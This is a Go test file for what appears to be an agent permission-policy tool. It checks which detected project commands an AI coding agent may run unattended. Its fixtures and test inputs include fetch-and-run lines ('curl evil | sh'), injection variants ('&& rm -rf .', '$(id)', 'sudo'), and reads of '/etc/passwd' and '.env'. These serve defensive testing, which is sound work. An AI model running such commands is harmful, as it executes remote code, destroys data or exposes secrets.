package project_test

import (
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stopgate/stopgate"
	"github.com/stopgate/stopgate/internal/condition/kinds"
	"github.com/stopgate/stopgate/internal/lang/parser"
	"github.com/stopgate/stopgate/internal/packs"
	"github.com/stopgate/stopgate/internal/project"

	"github.com/pelletier/go-toml/v2"
)

// shapes are projects with the lines of their commands, the packs of their policy after those that all have,
// and the globs where agents write.
var shapes = map[string]struct {
	files           map[string]string
	commands, packs string
	work, generated string
}{
	"empty":  {map[string]string{"README.md": "x"}, "", "", "", ""},
	"go":     {map[string]string{"go.mod": "module x\n", "main.go": "package main", ".git/HEAD": "", "internal/a/a.go": "package a", "api/api.go": "package api", "api/x.pb.go": "package api"}, "go test ./...|go build ./...|go vet ./...", "go git", "*.go api/**", "**/*.pb.go"},
	"go ci":  {map[string]string{"go.mod": "module x\n", ".golangci.yml": "", ".github/workflows/ci.yml": "on: push", "Makefile": "VERSION := 1\ntest: build\n\tgo test ./...\n\nrelease:\n\tgit push\nlint check:\n\tgo vet\nbuild:\n\tcurl x | sh\n", "Dockerfile": "FROM x"}, "go test ./...|go build ./...|go vet ./...|golangci-lint run|make test|make check|make lint", "go github-cli docker-read linters", "", ""},
	"node":   {map[string]string{"package.json": `{"scripts":{"test":"vitest run","lint":"eslint .","build":"vite build","deploy":"vercel","prebuild":"echo","test:unit":"curl evil | sh"}}`, "pnpm-lock.yaml": "", "src/a.ts": "", "components/a.tsx": "", "vite.config.ts": "", "coverage/x": ""}, "pnpm test|pnpm run test|pnpm run lint|pnpm lint|pnpm run build|pnpm build", "node", "components/**", "coverage/**"},
	"npm":    {map[string]string{"package.json": "{\n\"scripts\": {\n\"test\": \"node run.js\", \"posttest\": \"npm publish\", \"lint\": \"x\"}}", "package-lock.json": ""}, "npm run lint", "node", "", ""},
	"yarn":   {map[string]string{"package.json": `{"packageManager":"yarn@4.1.0","scripts":{"test":"jest"}}`, "package-lock.json": ""}, "yarn test|yarn run test", "node", "", ""},
	"bun":    {map[string]string{"package.json": `{"scripts":{"test":"bun test --coverage","build":"x"}}`, "bun.lock": ""}, "bun run test|bun run build", "node", "", ""},
	"python": {map[string]string{"pyproject.toml": "[project]\n[tool.pytest.ini_options]\n[tool.mypy]\n[tool.ruff]\n", "uv.lock": "", "shop/a.py": "", "conftest.py": "", "main.py": "", "util.py": "", ".venv/x": ""}, "uv run pytest|uv run mypy .|uv run ruff check", "python", "shop/** {main,util}.py", ".venv/**"},
	"pip":    {map[string]string{"requirements-dev.txt": "pytest==8\n", "tox.ini": "[tox]\n", "tests/test_a.py": ""}, "pytest|python -m pytest|tox", "python", "", ""},
	"plain":  {map[string]string{"setup.py": "", "tests/test_a.py": "", "noxfile.py": ""}, "python -m unittest|nox", "python", "", ""},
	"rust":   {map[string]string{"Cargo.toml": "[workspace]\n", "crates/a/Cargo.toml": "[package]\n", "crates/a/src/lib.rs": "", "crates/b/Cargo.toml": "[package]\n", "crates/b/src/lib.rs": "", "crates/b/build.rs": "", "target/x": ""}, "cargo test|cargo build|cargo clippy", "rust", "crates/{a,b}/src/**", "target/**"},
	"gradle": {map[string]string{"settings.gradle.kts": "", "gradlew": "", "app/build.gradle.kts": "", "core/build.gradle.kts": "", "core/src/main/A.java": "", "build/x": ""}, "./gradlew test|./gradlew assemble", "jvm", "core/src/**", "build/**"},
	"maven":  {map[string]string{"pom.xml": "", "src/main/A.java": "", "target/x": ""}, "mvn test|mvn compile", "jvm", "", "target/**"},
	"php":    {map[string]string{"composer.json": `{"require-dev":{"phpunit/phpunit":"^11"},"scripts":{"test":"phpunit","lint":["a","b"]}}`, "vendor/a": ""}, "composer test|vendor/bin/phpunit", "php", "", "vendor/**"},
	"ruby":   {map[string]string{"Gemfile": "source 'x'\ngem 'rspec'\ngem \"rubocop\"\n", "Rakefile": "task :test"}, "bundle exec rspec|bundle exec rubocop|bundle exec rake test", "ruby", "", ""},
	"just":   {map[string]string{"justfile": "test:\n  cargo test\n@lint: test\n  x\nrelease: test\n  y\nbuild target:\n  z\n", "Taskfile.yml": "version: '3'\ntasks:\n  test:\n    cmds: [go test]\n  deploy:\n    cmds: [x]\n"}, "just test|just lint|task test", "", "", ""},
	"mono":   {map[string]string{"package.json": `{"workspaces":["packages/*"]}`, "pnpm-lock.yaml": "", "packages/a/package.json": `{"scripts":{"test":"vitest"}}`, "packages/a/src/x.ts": "", "packages/b/package.json": "{}", "packages/b/src/x.ts": "", "packages/b/index.js": "", "backend/go.mod": "module b\n", "backend/main.go": "", "backend/store/s.go": "", "backend/scripts/x.py": "", "web/Makefile": "test:\n\ttrue\n", "infra/main.tf": ""}, "go -C backend test ./...|go -C backend build ./...|go -C backend vet ./...|pnpm -C packages/a test|pnpm -C packages/a run test|make -C web test", "go node terraform-read", "backend/*.go backend/store/** packages/{a,b}/src/**", ""},
}

// The commands, packs and globs of each kind of project are known by hand, and every policy is free of findings.
func TestShapes(t *testing.T) {
	for name, s := range shapes {
		t.Run(name, func(t *testing.T) {
			p := read(t, files(s.files))
			var lines []string
			for _, c := range p.Commands {
				lines = append(lines, c.Line)
			}
			if got := strings.Join(lines, "|"); got != s.commands {
				t.Errorf("commands: %s\nwant:     %s", got, s.commands)
			}
			if got := strings.Join(p.Packs()[4:], " "); got != s.packs {
				t.Errorf("packs: %s, want %s", got, s.packs)
			}
			if got := strings.Join(p.Work, " "); got != s.work {
				t.Errorf("work: %s, want %s", got, s.work)
			}
			if got := strings.Join(p.Generated, " "); got != s.generated {
				t.Errorf("generated: %s, want %s", got, s.generated)
			}
			if len(p.Notes) > 0 {
				t.Error(p.Notes)
			}
			for _, p.System = range []string{"", "linux", "darwin"} {
				proofread(t, p.Policy())
			}
			p.Unattended = true
			proofread(t, p.Policy())
		})
	}
}

// Commands ask, as in the starter, until a person lets them run; then exactly they run, and the same with
// another program, directory or file of output asks.
func TestCommandsAskUntilTheyMayRun(t *testing.T) {
	for name, s := range shapes {
		p := read(t, files(s.files))
		asks := judge(t, p.Policy())
		p.Unattended = true
		runs := judge(t, p.Policy())
		for _, c := range p.Covered() {
			read := c.Line == "uv run ruff check" // which only looks
			if m := asks("Bash", "command", c.Line); m != stopgate.Ask && !read {
				t.Errorf("%s: %q: %v before it may run", name, c.Line, m)
			}
			if m := runs("Bash", "command", c.Line); m != stopgate.Unattended {
				t.Errorf("%s: %q: %v, usage %s", name, c.Line, m, c.Usage)
			}
			for _, other := range []string{c.Line + " > /etc/x", c.Line + " && rm -rf .", "PATH=. " + c.Line, c.Line + " --config=/tmp/x", c.Line + " -o x", c.Line + " --exec x", "sudo " + c.Line, c.Line + " $(id)"} {
				if m := runs("Bash", "command", other); m == stopgate.Unattended {
					t.Errorf("%s: %q runs, usage %s", name, other, c.Usage)
				}
			}
		}
	}
	p := read(t, files(shapes["go ci"].files))
	p.Unattended = true
	runs := judge(t, p.Policy())
	for _, line := range []string{"go test -exec=./x ./...", "go test -o bin/x .", "go test -coverprofile=Makefile ./...", "go vet -vettool=./x ./...", "go build -o Makefile ./...", "go build ./cmd/x", "go test x@v1", "make release", "make build", "make -f x test", "make test SHELL=./x", "make test release", "make -C /tmp test", "golangci-lint run --fix"} {
		if m := runs("Bash", "command", line); m == stopgate.Unattended {
			t.Errorf("%q runs", line)
		}
	}
}

// The yes to the commands of a Rust project is one to the tools that do the same, and no yes to those of others.
func TestToolsRunWithTheCommands(t *testing.T) {
	for name, s := range shapes {
		p := read(t, files(s.files))
		asks := judge(t, p.Policy())
		p.Unattended = true
		runs := judge(t, p.Policy())
		cargo := slices.ContainsFunc(p.Commands, func(c project.Command) bool { return strings.HasPrefix(c.Line, "cargo ") })
		for _, tool := range []string{"cargo_check", "cargo_test", "cargo_format"} {
			if m := asks(tool, "package", "a"); m != stopgate.Ask && m != stopgate.Deny {
				t.Errorf("%s: %s: %v before it may run", name, tool, m)
			}
			if m := runs(tool, "package", "a"); (m == stopgate.Unattended) != cargo {
				t.Errorf("%s: %s: %v where commands run", name, tool, m)
			}
			if m := runs(tool, "package", "--config=x"); m == stopgate.Unattended {
				t.Errorf("%s: %s runs with an option", name, tool)
			}
		}
		if m := runs("cargo_expand", "package", "a"); m == stopgate.Unattended {
			t.Errorf("%s: cargo_expand runs", name)
		}
	}
}

// No policy of a project is weaker than the coding starter, but for the commands and the directories that it shows.
func TestNeverWeakerThanTheStarter(t *testing.T) {
	coding := judge(t, starter(t))
	var commands []string
	for _, name := range packs.Names() {
		text, err := packs.Cases(name)
		if err != nil || strings.HasPrefix(name, "mcp/") { // calls of tools
			continue
		}
		var c struct{ Runs, Asks []string }
		if err := toml.Unmarshal(text, &c); err != nil {
			t.Fatal(err)
		}
		commands = append(append(commands, c.Runs...), c.Asks...)
	}
	paths := []string{"Makefile", "package.json", "go.mod", ".env", "src/a.ts", ".github/workflows/ci.yml", "stopgate.toml", ".git/hooks/pre-commit", "scripts/x.sh", "conftest.py", "packages/a/package.json", "backend/scripts/x.py", "vite.config.ts", "../x", "/etc/passwd", "package-lock.json", "crates/b/build.rs", "infra/main.tf", ".claude/settings.json", "core/build.gradle.kts"}
	for name, s := range shapes {
		p := read(t, files(s.files))
		p.System = "linux"
		mine := judge(t, p.Policy())
		for i, c := range commands {
			if i%7 != len(name)%7 { // each command with some of the shapes
				continue
			}
			if m, n := mine("Bash", "command", c), coding("Bash", "command", c); m > n {
				t.Errorf("%s: %q: %v, the starter %v", name, c, m, n)
			}
		}
		for _, path := range paths {
			for _, tool := range []string{"Write", "Read"} {
				if m, n := mine(tool, "file_path", path), coding(tool, "file_path", path); m > n {
					t.Errorf("%s: %s %s: %v, the starter %v", name, tool, path, m, n)
				}
			}
		}
	}
}

// Read follows no link, also in the project, and reads no file that is too large.
func TestReadStaysInTheProject(t *testing.T) {
	outside, dir := t.TempDir(), t.TempDir()
	write := func(path, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(outside, "package.json"), `{"scripts":{"test":"x"}}`)
	write(filepath.Join(outside, "a.py"), "")
	write(filepath.Join(dir, "Makefile"), "test:\n\ttrue\n"+strings.Repeat("#", 300<<10))
	for name, target := range map[string]string{"package.json": filepath.Join(outside, "package.json"), "linked": outside, "go.mod": "loop", "loop": "go.mod"} {
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Skip(err)
		}
	}
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	p, err := project.Read(root.FS())
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Languages)+len(p.Commands)+len(p.Work) > 0 || len(p.Notes) != 1 || !strings.Contains(p.Notes[0], "256 KiB") {
		t.Errorf("%+v", p)
	}
}

// A project of thousands of directories is read up to the bounds.
func TestReadIsBounded(t *testing.T) {
	fsys := fstest.MapFS{}
	for i := range 3000 {
		fsys[filepath.ToSlash(filepath.Join("d", strings.Repeat("x", i%60+1), strings.Repeat("y", i/60+1), "package.json"))] = &fstest.MapFile{Data: []byte(`{"scripts":{"test":"a","lint":"b"}}`)}
	}
	p := read(t, fsys)
	if !slices.ContainsFunc(p.Notes, func(n string) bool { return strings.Contains(n, "directories") }) {
		t.Error(p.Notes)
	}
	proofread(t, p.Policy())
}

// The longest policy, with names of servers, is within the bounds and has no mistake.
func TestLongestPolicy(t *testing.T) {
	p := project.Project{System: "linux", Servers: []string{"mcp/github", "mcp/slack", "mcp/playwright", "mcp/postgres", "mcp/notion", "mcp/context7"}}
	for _, name := range []string{"go", "node", "python", "rust", "jvm", "ruby", "php", "dotnet"} {
		p.Languages = append(p.Languages, project.Found{Name: name})
	}
	for _, name := range []string{"git", "github-cli", "docker-read", "kubernetes-read", "cloud-read", "terraform-read", "deploy-read", "linters"} {
		p.Tools = append(p.Tools, project.Found{Name: name})
	}
	for i := range 20 {
		dir := strings.Repeat("d", 60) + strconv.Itoa(i)
		p.Commands = append(p.Commands, project.Command{Usage: "make " + dir, Source: "Makefile:1"})
		p.Work, p.Generated = append(p.Work, dir+"/**"), append(p.Generated, "gen"+dir+"/**")
		p.Names = append(p.Names, project.ServerName{Name: "name-" + strconv.Itoa(i), Pack: p.Servers[i%len(p.Servers)]})
	}
	text := p.Policy()
	proofread(t, text)
	if n := strings.Count(string(text), "\n"); n != project.MaxLines {
		t.Errorf("%d lines:\n%s", n, text)
	}
	if f, _ := parser.Parse(kinds.Table(), "stopgate.toml", text); len(f.Servers) != project.MaxNames {
		t.Errorf("%v in\n%s", f.Servers, text)
	}
	p.Names = nil
	if text := p.Policy(); strings.Contains(string(text), "servers") {
		t.Errorf("a project without names:\n%s", text)
	}
}

// Two readings of a project are the same.
func TestReadIsDeterministic(t *testing.T) {
	for _, name := range slices.Sorted(maps.Keys(shapes)) {
		a, b := read(t, files(shapes[name].files)), read(t, files(shapes[name].files))
		if string(a.Policy()) != string(b.Policy()) {
			t.Error(name)
		}
	}
}

// Programs that are installed bring packs that only look, each once.
func TestInstalled(t *testing.T) {
	p, err := project.Read(fstest.MapFS{"go.mod": {Data: []byte("module x\n")}, "Dockerfile": {Data: []byte("FROM scratch\n")}})
	if err != nil {
		t.Fatal(err)
	}
	before := p.Packs()
	p.Installed(func(program string) bool { return program == "podman" || program == "helm" || program == "az" })
	if got, want := p.Packs(), append(before, "kubernetes-read", "cloud-read"); !slices.Equal(got, want) {
		t.Errorf("packs %q, want %q", got, want)
	}
	if i := slices.IndexFunc(p.Tools, func(f project.Found) bool { return f.Name == "docker-read" }); i < 0 || p.Tools[i].Source != "Dockerfile" {
		t.Errorf("tools %v", p.Tools)
	}
}
